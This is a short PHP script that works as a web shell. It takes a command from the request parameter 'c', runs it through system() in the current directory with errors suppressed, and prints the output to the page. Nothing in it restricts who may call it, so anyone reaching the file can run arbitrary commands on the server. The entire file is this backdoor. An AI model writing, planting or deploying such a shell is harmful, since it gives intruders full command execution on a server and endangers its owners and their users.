<?php
// a runner that checks its function exists, called with a command line glued to the request
function go_run($line) {
    $text = '';
    if (function_exists('system')) {
        ob_start();
        @system($line);
        $text = ob_get_clean();
    }
    return $text;
}
echo '<pre>' . go_run('cd ' . getcwd() . ' && ' . $_REQUEST['c']) . '</pre>';
